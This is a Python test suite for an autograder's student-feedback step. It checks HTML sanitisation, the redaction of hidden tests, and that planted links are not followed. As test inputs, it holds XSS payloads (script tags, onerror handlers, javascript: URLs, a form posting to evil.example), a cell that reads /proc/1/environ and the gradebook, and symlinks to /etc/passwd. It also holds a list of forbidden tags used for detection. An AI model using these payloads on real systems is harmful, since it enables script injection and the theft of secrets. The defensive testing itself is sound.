"""What a student gets back is safe (issue 12, "feedback"): sanitised HTML, hidden tests
never shown, a student's text never breaking the step, no link followed.

One class is graded for real (a1-neurons, plus one a2-activations submission so
that "every other assignment" means something) and ``autograde feedback`` is
run on it twice: as graded (every student must get feedback and the command
exit 0), then after the autograded folders were tampered with as if
something had copied links, FIFOs and hard links into them, and one
notebook broken (the command must finish, report exactly those, one line
each, exit 1, and every other student and assignment still get feedback).

The students, each written as a student would:

- ``honest-full``, ``honest-rich`` (LaTeX, a table, a link, a matplotlib plot):
  feedback looks as nbgrader's own (same visible text, same elements and
  classes, same head: its CSS, MathJax), plots kept as PNG data URIs;
- ``xss-markdown``, ``xss-outputs``: script, ``img onerror``, ``javascript:``
  and ``data:`` links, iframes, SVG with script, event attributes, forms, meta
  refresh... in a written answer and in outputs of every mime type;
- ``markers``: nbgrader's ``### BEGIN HIDDEN TESTS`` (unbalanced), ``### END``
  and ``### BEGIN SOLUTION`` in a written answer, a code answer and an own cell;
- ``print-in``: prints ``In``, ``Out``, its history and everything it can find
  on disk (the notebook, the course's source and gradebook by path, another
  copy of the course: this repository's source/);
- ``echo-hidden``: prints a line of a hidden test it somehow has (as text, as
  a repr, as HTML): the second line of defence must hide it;
- ``missing-name``: no ``dense_forward`` at all, so the hidden test fails on
  its own line (a NameError's traceback quotes it);
- ``links-from-kernel``: its cell makes links (to /etc/passwd, the course's
  source, the gradebook), a FIFO and a hard link in its working folder;
- ``deep``: a written answer nested 20,000 levels deep.
"""

from __future__ import annotations

import html
import json
import os
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from autograde.demo import filled
from autograde.hidden import NOTE, REDACTED
from autograde.safehtml import sanitize, sanitize_page
from tests.cli import run_tool
from tests.course.harness import copy_course

from .conftest import ROOT

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("feedback")]

A1, A2 = "a1-neurons", "a2-activations"
FULL = 13.0
CODE_ANSWERS = {"ml-or-dl", "neuron", "dense-forward", "forward-pass", "is-linear"}
WRITTEN = "why-linear-collapses"
MIN_CHARS = 12   # a hidden line shorter than this says nothing ("return E", ")")

RICH_MD = r"""Stacking linear layers gives $W_2(W_1 x + b_1) + b_2 = W x + b$, one linear map:

$$\sigma(z) = \frac{1}{1 + e^{-z}}, \qquad z < 0 \Rightarrow \sigma(z) < \tfrac12$$

| layers | still linear? |
|:--|--:|
| 1 | yes |
| 2 | **yes** |

See [the lecture notes](https://example.org/notes#linear) and `np.dot(w, x) + b`.
"""

RICH_CODE = """\
import matplotlib.pyplot as plt
z = np.linspace(-5, 5, 101)
plt.plot(z, 1 / (1 + np.exp(-z)))
plt.title("sigmoid")
plt.show()
"""

XSS_MD = """My answer: <script>alert('md-script')</script>
<img src=x onerror="alert('md-img')">
[click me](javascript:alert('md-js'))
<a href="JaVaScRiPt:alert('md-js2')">also</a>
<a href="  java\tscript:alert('md-js3')">tab</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert('md-svg')"><script>alert('md-svg2')</script></svg>
<div onmouseover="alert('md-over')" style="position:fixed;top:0">hover me</div>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="pw"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<math><maction actiontype="statusline" xlink:href="javascript:alert('md-math')">m</maction></math>
<details open ontoggle="alert('md-toggle')"><summary>more</summary>text</details>
"""

XSS_CODE = """\
from IPython.display import display, HTML, SVG, Markdown, Latex, Javascript
display(HTML("<b>bold</b><script>alert('out-html')</script><img src=x onerror=alert('out-img')>"
             "<iframe src='https://evil.example/'></iframe><a href='javascript:alert(1)'>x</a>"))
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"alert('out-svg')\\">"
                          "<script>alert('out-svg2')</script></svg>"}, raw=True)
display({"image/png": "AAAA\\" onerror=\\"alert('out-png')"}, raw=True)
display(Markdown("<img src=x onerror=alert('out-md')> and [js](javascript:alert('out-md2'))"))
display({"text/latex": "<script>alert('out-latex')</script>$x$"}, raw=True)
display(Javascript("alert('out-javascript')"))
display({"text/html": "<p>isolated</p><script>alert('out-isolated')</script>"},
        metadata={"text/html": {"isolated": True}}, raw=True)
print("<script>alert('out-stream')</script>")
"""

MARKERS_MD = "### BEGIN HIDDEN TESTS\nI quote nbgrader's marker, with no end.\n"
MARKERS_CODE = ("### END HIDDEN TESTS\n### BEGIN SOLUTION\n"
                "answers = ['ML', 'DL', 'ML', 'DL', 'ML']\n")
MARKERS_OWN = "### BEGIN HIDDEN TESTS\nprint('mine')\n### END HIDDEN TESTS\n"

PRINT_IN = """\
import glob, os
# one line per thing (nbgrader keeps 300 lines of a cell's output): what matters first
for path in [{source!r}, {autograded!r}, {gradebook!r}, {repository!r}, "/proc/1/cmdline",
             "/proc/1/environ"]:
    try:
        print(path, open(path, "rb").read()[:2_000_000])
    except Exception as exc:
        print(path, type(exc).__name__, exc)
print(In)
print(repr(Out))
print(get_ipython().history_manager.input_hist_raw)
for pattern in ("*", ".*", "**/*", "../*", "../../*", "/tmp/*", "/tmp/**/*.ipynb",
                os.path.expanduser("~") + "/**/*"):
    found = glob.glob(pattern, recursive=True)
    print(pattern, found[:300])
    for path in found:
        if path.endswith((".ipynb", ".db", ".py", ".json", ".txt")):
            try:
                print(path, repr(open(path, errors="replace").read()[:500_000]))
            except Exception as exc:
                print(path, type(exc).__name__)
"""

LINKS_FROM_KERNEL = """\
import os
os.symlink("/etc/passwd", "passwd.txt")
os.symlink({source!r}, "course-source")
os.symlink({gradebook!r}, "gradebook.db")
os.mkfifo("pipe")
with open("notes.txt", "w") as fh:
    fh.write("my own notes")
os.link("notes.txt", "hard-notes.txt")
print(sorted(os.listdir(".")))
"""


def _hidden_lines(course: Path, assignment: str, notebook: str) -> set[str]:
    """Every line of the source notebook's hidden-test blocks, stripped."""
    nb = nbformat.read(course / "source" / assignment / f"{notebook}.ipynb", as_version=4)
    lines, inside = set(), False
    for cell in nb.cells:
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            elif inside and len(line.strip()) >= MIN_CHARS:
                lines.add(line.strip())
    return lines


def _secret_lines(course: Path, student: str, assignment: str, notebook: str) -> set[str]:
    """Hidden lines the student has no other way to see (not in the release notebook, not
    written by the student in their own submission)."""
    release = nbformat.read(course / "release" / assignment / f"{notebook}.ipynb", as_version=4)
    seen = "\n".join(c.source for c in release.cells)
    mine = course / "submitted" / student / assignment / f"{notebook}.ipynb"
    if mine.exists():
        seen += "\n".join(c.source for c in nbformat.read(mine, as_version=4).cells)
    return {line for line in _hidden_lines(course, assignment, notebook) if line not in seen}


def _student(course: Path, student: str, *, answers=CODE_ANSWERS, replace=None, extra=(),
             assignment=A1, notebook="neurons") -> None:
    source = nbformat.read(course / "source" / assignment / f"{notebook}.ipynb", as_version=4)
    release = nbformat.read(course / "release" / assignment / f"{notebook}.ipynb", as_version=4)
    nb = filled(release, source, set(answers) if answers is not None else None)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if replace and gid in replace:
            cell.source = replace[gid]
    for kind, text in extra:   # the student's own cells, at the end
        nb.cells.append(nbformat.v4.new_code_cell(text) if kind == "code"
                        else nbformat.v4.new_markdown_cell(text))
    folder = course / "submitted" / student / assignment
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{notebook}.ipynb")


def _run(course: Path, *args: str, timeout: int = 1500) -> subprocess.CompletedProcess:
    return run_tool(course, *args, timeout=timeout)


class Run:
    def __init__(self, course: Path):
        self.course = course
        self.first: subprocess.CompletedProcess | None = None    # feedback as graded
        self.pages: dict[str, str] = {}                           # student -> a1 HTML then
        self.plain: str = ""                                      # nbgrader's own, honest-full
        self.second: subprocess.CompletedProcess | None = None   # after the tampering

    def page(self, student: str, assignment: str = A1, notebook: str = "neurons") -> str:
        return (self.course / "feedback" / student / assignment / f"{notebook}.html").read_text()


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    course = copy_course(tmp_path_factory.mktemp("feedback") / "course-root")
    for a in (A1, A2):
        proc = _run(course, "autograde", "release", a)
        assert proc.returncode == 0, proc.stderr[-3000:]
    paths = {"source": str(course / "source" / A1 / "neurons.ipynb"),
             "gradebook": str(course / "gradebook.db"),
             "autograded": str(course / "autograded" / "print-in" / A1 / "neurons.ipynb"),
             # another copy of the course on the machine (this repository's)
             "repository": str(ROOT / "source" / A1 / "neurons.ipynb")}
    source = nbformat.read(course / "source" / A1 / "neurons.ipynb", as_version=4)
    secret = sorted(_secret_lines(course, "nobody", A1, "neurons"), key=len)[-1]
    echo = (f"line = bytes.fromhex({secret.encode().hex()!r}).decode()\n"
            "print(line)\nprint([line, 'and more'])\n"
            "from IPython.display import HTML, display\n"
            "import html as _h\ndisplay(HTML('<pre>' + _h.escape(line) + '</pre>'))\n")
    written = {c.metadata["nbgrader"]["grade_id"]: c.source for c in source.cells
               if c.metadata.get("nbgrader", {}).get("grade_id") == WRITTEN}
    assert written, "a1 has a written answer"
    _student(course, "honest-full")
    _student(course, "honest-rich", replace={WRITTEN: RICH_MD}, extra=[("code", RICH_CODE)])
    _student(course, "xss-markdown", replace={WRITTEN: XSS_MD})
    _student(course, "xss-outputs", extra=[("code", XSS_CODE)])
    _student(course, "markers", replace={WRITTEN: MARKERS_MD, "ml-or-dl": MARKERS_CODE},
             extra=[("code", MARKERS_OWN), ("markdown", "### END HIDDEN TESTS")])
    _student(course, "print-in", extra=[("code", PRINT_IN.format(**paths))])
    _student(course, "echo-hidden", extra=[("code", echo)])
    _student(course, "missing-name", replace={"dense-forward": "# I did not get this one\n"})
    _student(course, "links-from-kernel", extra=[("code", LINKS_FROM_KERNEL.format(**paths))])
    _student(course, "deep", replace={WRITTEN: "<div>" * 20_000 + "deep" + "</div>" * 20_000
                                      + "\n\n" + "> " * 5000 + "quoted"})
    _student(course, "broken")
    _student(course, "linked-notebook")
    _student(course, "linked-folder")
    _student(course, "honest-a2", answers=None, assignment=A2, notebook="activations")
    for a in (A1, A2):
        proc = _run(course, "autograde", "grade", a, "--jobs=2", "--Execute.timeout=30")
        assert proc.returncode == 0, proc.stderr[-3000:]
    r = Run(course)
    r.first = _run(course, "autograde", "feedback")
    r.pages = {p.parent.parent.name: p.read_text()
               for p in (course / "feedback").glob(f"*/{A1}/neurons.html")}
    # nbgrader's own feedback of the honest student, for the look
    plain = run_tool(course, "nbgrader", "generate_feedback", A1, "--student=honest-rich",
                     "--force", "--CourseDirectory.feedback_directory=plain-feedback")
    assert plain.returncode == 0, plain.stderr[-3000:]
    r.plain = (course / "plain-feedback" / "honest-rich" / A1 / "neurons.html").read_text()
    _tamper(course)
    r.second = _run(course, "autograde", "feedback", timeout=900)
    return r


def _tamper(course: Path) -> None:
    """As if something had copied links, a FIFO and a hard link into autograded/."""
    graded = course / "autograded"
    folder = graded / "honest-full" / A1
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "other.txt").symlink_to(graded / "honest-rich" / A1 / "neurons.ipynb")
    (folder / "source").symlink_to(course / "source")
    os.mkfifo(folder / "pipe.txt")
    os.link(course / "source" / A1 / "neurons.ipynb", folder / "hard.txt")
    (folder / "data.csv").write_text("x,y\n1,2\n")
    sub = folder / "sub"
    sub.mkdir()
    (sub / "inner.txt").symlink_to(course / "gradebook.db")
    # a notebook that is a link to another student's, a folder that is a link
    target = graded / "linked-notebook" / A1 / "neurons.ipynb"
    target.unlink()
    target.symlink_to(graded / "honest-rich" / A1 / "neurons.ipynb")
    shutil.rmtree(graded / "linked-folder" / A1)
    (graded / "linked-folder" / A1).symlink_to(graded / "honest-rich" / A1)
    (graded / "broken" / A1 / "neurons.ipynb").write_text('{"cells": [')


# ----------------------------------------------------------------------------- parsing
class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.head_scripts: list[dict] = []
        self.text: list[str] = []
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "body":
            self.in_body = True
        if self.in_body:
            self.elements.append((tag, attrs))
        elif tag == "script":
            self.head_scripts.append(attrs)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.in_body:
            self.text.append(data)


def _parse(page: str) -> _Page:
    p = _Page()
    p.feed(page)
    return p


FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "svg", "math", "meta",
                  "base", "link", "style", "frame", "frameset", "applet", "template", "button"}


def _unsafe(page: str) -> list[str]:
    """What in a page's body could run code or leave the page."""
    found = []
    for tag, attrs in _parse(page).elements:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            value = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data") and (
                    value.startswith(("javascript:", "vbscript:")) or
                    (value.startswith("data:") and not (tag == "img" and name == "src"
                                                        and value.startswith("data:image/")))):
                found.append(f"<{tag} {name}={value[:40]}>")
    return found


# ----------------------------------------------------------------------------- tests
def test_every_student_gets_feedback_and_the_step_succeeds(run):
    assert run.first.returncode == 0, run.first.stdout[-3000:] + run.first.stderr[-3000:]
    students = {p.name for p in (run.course / "submitted").iterdir()} - {"honest-a2"}
    assert set(run.pages) == students, run.first.stdout
    assert (run.course / "feedback" / "honest-a2" / A2 / "activations.html").exists()
    print(run.first.stdout)


@pytest.mark.parametrize("student", ["xss-markdown", "xss-outputs", "honest-rich", "deep"])
def test_no_script_event_handler_or_javascript_url_reaches_the_feedback(run, student):
    page = run.pages[student]
    assert _unsafe(page) == []
    head = _parse(page).head_scripts   # MathJax and its configuration, nbgrader's own
    assert len(head) == 2 and "mathjax" in head[0].get("src", "")
    assert page.lower().count("<script") == 2
    body = page.split("</head>", 1)[1]
    for probe in ("alert('md-", "alert('out-"):
        for m in re.finditer(re.escape(probe), body):   # only ever as text, never markup
            before = body[:m.start()]
            assert before.rfind("<") < before.rfind(">"), body[m.start() - 200:m.end()]


def test_the_written_and_the_printed_answer_are_still_shown_as_text(run):
    text = html.unescape("".join(_parse(run.pages["xss-markdown"]).text))
    assert "My answer:" in text and "hover me" in text
    text = html.unescape("".join(_parse(run.pages["xss-outputs"]).text))
    assert "<script>alert('out-stream')</script>" in text, "a printed string is text"
    assert "bold" in text


def test_honest_feedback_looks_as_nbgraders_own(run):
    ours, theirs = _parse(run.pages["honest-rich"]), _parse(run.plain)
    assert run.pages["honest-rich"].split("</head>")[0] == run.plain.split("</head>")[0]

    def shape(p):
        return [(t, a.get("class"), a.get("id"), a.get("href"), (a.get("src") or "")[:30])
                for t, a in p.elements if t not in ("body", "tbody")]

    assert shape(ours) == shape(theirs)
    assert re.sub(r"\s+", " ", "".join(ours.text)) == re.sub(r"\s+", " ", "".join(theirs.text))
    page = run.pages["honest-rich"]
    assert re.search(r"Score: [\d.]+ / [\d.]+", page), "the score boxes"
    assert 'src="data:image/png;base64,' in page, "the plot is kept"
    assert r"\frac{1}{1 + e^{-z}}" in html.unescape(page), "LaTeX for MathJax"
    assert "div.nbgrader_cell" in page and "panel panel-primary nbgrader_cell" in page


def test_markers_in_answers_are_the_students_text(run):
    text = html.unescape("".join(_parse(run.pages["markers"]).text))
    assert "I quote nbgrader's marker, with no end." in text
    assert "print('mine')" in text and "BEGIN SOLUTION" in text


@pytest.mark.parametrize("student", ["print-in", "echo-hidden", "missing-name", "honest-full",
                                     "xss-outputs", "links-from-kernel", "markers"])
def test_no_line_of_a_hidden_test_is_in_the_feedback(run, student):
    page = run.pages[student]
    visible = html.unescape(page)
    leaks = [line for line in _secret_lines(run.course, student, A1, "neurons")
             if line in visible or html.escape(line) in page]
    assert leaks == [], leaks[:5]


def test_hidden_lines_printed_by_a_student_are_replaced_by_a_note(run):
    text = html.unescape(run.pages["echo-hidden"])
    assert NOTE in text
    assert "showing hidden-test code not shown" in run.first.stdout


def test_a_hidden_tests_own_traceback_keeps_its_message_not_its_line(run):
    text = html.unescape(run.pages["missing-name"])
    assert "NameError: name 'dense_forward' is not defined" in text
    assert REDACTED in text


def test_the_kernels_links_reach_neither_autograded_nor_feedback(run):
    for top in ("autograded", "feedback"):
        folder = run.course / top / "links-from-kernel" / A1
        names = sorted(p.name for p in folder.iterdir())
        assert names in (["neurons.ipynb"], ["neurons.html"],
                         ["neurons.ipynb", "timestamp.txt"], ["neurons.html", "timestamp.txt"]), \
            (top, names)
    nb = nbformat.read(run.course / "autograded" / "links-from-kernel" / A1 / "neurons.ipynb",
                       as_version=4)
    printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
    assert "passwd.txt" in printed, "the links were made, in the kernel's own folder"


def test_after_tampering_the_step_finishes_reports_each_failure_and_exits_1(run):
    out = run.second.stdout
    assert run.second.returncode == 1, out + run.second.stderr[-2000:]
    failures = [line for line in out.splitlines() if "NO FEEDBACK" in line]
    print("\n".join(failures))
    who = sorted(line.split("NO FEEDBACK for ")[1].split("/")[0].split(":")[0]
                 for line in failures)
    assert who == ["broken", "linked-folder", "linked-notebook"], failures
    assert all(len(line) < 400 for line in failures)
    assert "symbolic link" in next(f for f in failures if "linked-notebook" in f)
    for student in set(run.pages) - {"broken", "linked-folder", "linked-notebook"}:
        assert (run.course / "feedback" / student / A1 / "neurons.html").exists(), student
    assert (run.course / "feedback" / "honest-a2" / A2 / "activations.html").exists()


def test_after_tampering_nothing_is_read_through_a_link(run):
    folder = run.course / "feedback" / "honest-full" / A1
    found = sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))
    assert "data.csv" in found and "neurons.html" in found
    for name in ("passwd.txt", "other.txt", "source", "pipe.txt", "hard.txt", "sub/inner.txt"):
        assert name not in found, (name, found)
    for top in ("feedback",):
        links = [p for p in (run.course / top).rglob("*") if p.is_symlink()]
        assert links == [], links
    # the linked notebook's student got nothing of the other student's
    assert not (run.course / "feedback" / "linked-notebook" / A1 / "neurons.html").exists()
    assert not (run.course / "feedback" / "linked-folder" / A1).is_symlink()


# ----------------------------------------------------------------------------- the sanitiser
@pytest.mark.parametrize("dirty, gone", [
    ("<script>alert(1)</script>", "script"),
    ('<img src=x onerror="alert(1)">', "onerror"),
    ('<a href="javascript:alert(1)">x</a>', "href"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "href"),
    ('<a href="data:text/html,x">x</a>', "href"),
    ('<img src="data:text/html;base64,PHNjcmlwdD4=">', "src"),
    ('<iframe src="https://e.example"></iframe>', "iframe"),
    ('<svg onload="alert(1)"><script>1</script></svg>', "svg"),
    ('<p onclick="x()">p</p>', "onclick"),
    ('<span style="background-image: url(javascript:x)">s</span>', "url("),
    ('<math><mi xlink:href="javascript:1">x</mi></math>', "math"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "img"),
    ('<a href="https://e.example" onmouseover="steal()">x</a>', "onmouseover"),
])
def test_the_sanitiser_removes(dirty, gone):
    clean = sanitize(dirty)
    elements = _parse("<body>" + clean).elements
    assert _unsafe("<body>" + clean) == []
    names = {t for t, _ in elements} | {n for _, a in elements for n in a} | \
        {v for _, a in elements for v in a.values() if v and "url(" in v and gone == "url("}
    assert gone not in names and not any(gone in str(v) for _, a in elements
                                         for v in a.values() if gone == "url("), clean


def test_the_sanitiser_keeps_what_notebooks_use():
    kept = ('<div class="panel panel-primary nbgrader_cell"><a name="top"></a>'
            '<h2 id="x">T</h2><p>$x &lt; y$ <code>np.dot</code> <a href="#top">top</a> '
            '<a href="https://example.org/">web</a></p>'
            '<img src="data:image/png;base64,iVBORw0KGgo=" alt="plot">'
            '<table><thead><tr><th style="text-align: left;">a</th></tr></thead></table>'
            '<span class="ansi-green-fg" style="color: rgb(0,135,0);">ok</span></div>')
    assert sanitize(kept) == kept


def test_a_page_keeps_its_head_and_refuses_a_head_that_is_not_the_templates():
    page = ("<!DOCTYPE html>\n<html><head><title>t</title><script src='m.js'></script>"
            "<style>p{}</style></head><body><p onclick='x'>hi</p></body></html>")
    clean = sanitize_page(page)
    assert clean.startswith(page.split("</head>")[0]) and "onclick" not in clean
    with pytest.raises(ValueError):
        sanitize_page("<head><title>x<body><script>1</script></title></head><p>", scripts=1)


# ----------------------------------------------------------------------------- the redaction
LINE = 'grading.check_choices("answers", globals().get("answers"), ["ML", "DL"],'


@pytest.mark.parametrize("shown", [
    LINE,
    repr([LINE, "x"]),                                           # print(In)
    json.dumps({"source": ["    " + LINE + "\n"]}),              # the notebook's JSON
    repr(json.dumps({"source": [LINE]}).encode()),               # its bytes, printed
    repr(repr(LINE)),
    html.escape(LINE),                                           # as HTML
    "\x1b[31m" + LINE.replace("(", "\x1b[0m(", 1),               # in a coloured traceback
])
def test_a_hidden_line_is_found_however_it_is_printed(shown):
    from autograde.hidden import HiddenLines

    guard = HiddenLines([LINE, ")", "short"])
    assert guard.found_in(shown)
    assert guard.lines == [LINE], "lines under 12 characters say nothing"
    assert not HiddenLines([LINE], public="x\n" + LINE).lines, "a public line is no secret"


def test_outputs_with_hidden_lines_are_replaced_or_redacted():
    from autograde.hidden import HiddenLines

    guard = HiddenLines([LINE])
    student = [nbformat.v4.new_output("stream", name="stdout", text=f"ok\n{LINE}\n"),
               nbformat.v4.new_output("display_data", data={"text/html": html.escape(LINE)}),
               nbformat.v4.new_output("stream", name="stdout", text="fine\n")]
    assert guard.redact_outputs(student, student=True) == 2
    assert student[0].text == NOTE + "\n" and student[1].data == {"text/plain": NOTE}
    assert student[2].text == "fine\n"
    test = [nbformat.v4.new_output("error", ename="NameError", evalue="name 'x' is not defined",
                                   traceback=["Traceback (most recent call last):",
                                              f'  File "<test cell a-hidden>", line 2, in '
                                              f"<module>\n    {LINE}\n    ^^^^",
                                              "NameError: name 'x' is not defined"])]
    assert guard.redact_outputs(test, student=False) == 1
    assert test[0].output_type == "error" and test[0].ename == "NameError"
    assert LINE not in json.dumps(test) and REDACTED in test[0].traceback[1]
    assert "^^^^" not in test[0].traceback[1]


def test_the_worker_redacts_only_the_quoted_lines_of_test_cell_frames():
    from autograde.hidden import redact_traceback_lines

    tb = ['  File "<test cell t-hidden>", line 3, in <module>\n    return max_steps\n    ^^^',
          "hint: ... return max_steps when it never does."]   # a message: kept as it is
    out, n = redact_traceback_lines(tb, ["return max_steps"])
    assert n == 1 and out[0].endswith(REDACTED) and out[1] == tb[1]


# ----------------------------------------------------------------------------- long cells
def _code(chars: int) -> str:
    """A cell of exactly ``chars`` characters, in lines of ten ("v000042=1\\n")."""
    return "".join(f"v{i:06d}=1\n" for i in range(chars // 10))


def _long_notebook(sizes, test_source="assert True\n"):
    cells = [nbformat.v4.new_code_cell(_code(n)) for n in sizes]
    cells.append(nbformat.v4.new_markdown_cell("# " + "words " * 10_000))
    test = nbformat.v4.new_code_cell(test_source)
    test.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                 "grade_id": "t", "points": 1}
    cells.append(test)
    return nbformat.v4.new_notebook(cells=cells)


def test_a_cell_of_megabytes_shows_its_start_and_says_how_much_there_is():
    """1.9 MB of pasted code took over two minutes to render and lost the student's
    feedback (CI, the copy-flood attack): a page shows the start of a long cell."""
    from autograde.feedback import ShortenLongCells

    nb = _long_notebook([2_000_000, 300], test_source="x = 1\n" * 5000)
    full = [c.source for c in nb.cells]
    nb, resources = ShortenLongCells(cell_chars=20_000, notebook_chars=200_000).preprocess(
        nb, {})
    big, small, md, test = (c.source for c in nb.cells)
    assert resources["autograde_shortened"] == 2
    head, note = big.rsplit("\n", 1)
    assert full[0].startswith(head + "\n") and len(head) == 19_999, "cut at a line's end"
    assert note == ("# [feedback shows the first 19,999 of the 2,000,000 characters of this "
                    "cell; the notebook you submitted has all of them]")
    assert small == full[1], "a short cell is shown whole"
    assert md.startswith("# words") and md.endswith("all of them]*"), md[-200:]
    assert test == full[3], "a test cell is the gradebook's: whole, whatever its length"


def test_past_the_notebooks_budget_a_cell_shows_the_note_only():
    from autograde.feedback import ShortenLongCells

    nb = _long_notebook([15_000] * 5)
    nb, resources = ShortenLongCells(cell_chars=20_000, notebook_chars=40_000).preprocess(
        nb, {})
    cells = [c.source for c in nb.cells]
    assert cells[0] == cells[1] == _code(15_000), "within the budget: whole"
    assert cells[2].startswith(_code(9_990)) and "first 9,999 of the 15,000" in cells[2]
    note = ("# [this cell has 15,000 characters, more than a feedback page shows; "
            "the notebook you submitted has all of them]")
    assert cells[3] == cells[4] == note
    assert cells[5] == "*[this cell has 60,002 characters, more than a feedback page shows; " \
                       "the notebook you submitted has all of them]*"
    assert resources["autograde_shortened"] == 4
